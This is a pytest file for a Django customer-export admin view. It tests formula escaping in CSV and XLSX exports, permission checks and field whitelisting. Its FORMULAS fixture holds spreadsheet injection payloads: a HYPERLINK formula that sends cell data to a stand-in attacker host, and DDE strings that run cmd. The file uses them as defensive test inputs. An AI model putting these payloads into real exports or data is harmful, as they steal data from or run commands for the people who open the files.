"""Exports hold only whitelisted fields, need export_customer, and are safe in a spreadsheet."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from config import roles
from customers.resources import EXPORT_FIELDS

from .factories import CustomerFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
]


def export(client, file_format: str):
    data = {"format": {"csv": "0", "xlsx": "1"}[file_format], "resource": "0"}
    for field in ("first_name", "last_name", "email", "country"):
        data[f"customerexportresource_{field}"] = "on"
    return client.post(reverse("admin:customers_customer_export"), data)


@pytest.fixture
def formula_customers():
    return [CustomerFactory(first_name="Eve", last_name=name) for name in FORMULAS]


def test_csv_export_escapes_formulas(client, make_user, formula_customers):
    client.force_login(make_user("cmo", roles.CMO))
    response = export(client, "csv")

    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert set(rows[0]) == {"first_name", "last_name", "email", "country"}
    assert sorted(r["last_name"] for r in rows) == sorted("'" + f for f in FORMULAS)


def test_xlsx_export_opens_formulas_as_text(client, make_user, formula_customers):
    client.force_login(make_user("mo", roles.MARKETING_OPERATOR))
    response = export(client, "xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)
    assert sorted(cell.value for cell in cells) == sorted("'" + f for f in FORMULAS)


def test_export_needs_the_export_permission(client, make_user, formula_customers):
    client.force_login(make_user("ciso", roles.CISO))
    assert export(client, "csv").status_code == 403
    assert client.get(reverse("admin:customers_customer_export")).status_code == 403


def test_export_offers_only_whitelisted_fields(client, make_user):
    client.force_login(make_user("cmo", roles.CMO))
    page = client.get(reverse("admin:customers_customer_export")).content.decode()
    for field in EXPORT_FIELDS:
        assert f"customerexportresource_{field}" in page
    assert "customerexportresource_email_normalized" not in page
    assert "customerexportresource_consent_source" not in page


def test_a_phone_number_is_exported_as_stored_and_a_plus_formula_is_not(client, make_user):
    CustomerFactory(first_name="Pat", phone="+4930123456")
    client.force_login(make_user("mo", roles.MARKETING_OPERATOR))
    data = {"format": "0", "resource": "0"}
    data |= {f"customerexportresource_{field}": "on" for field in ("first_name", "phone")}
    response = client.post(reverse("admin:customers_customer_export"), data)

    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows == [{"first_name": "Pat", "phone": "+4930123456"}]
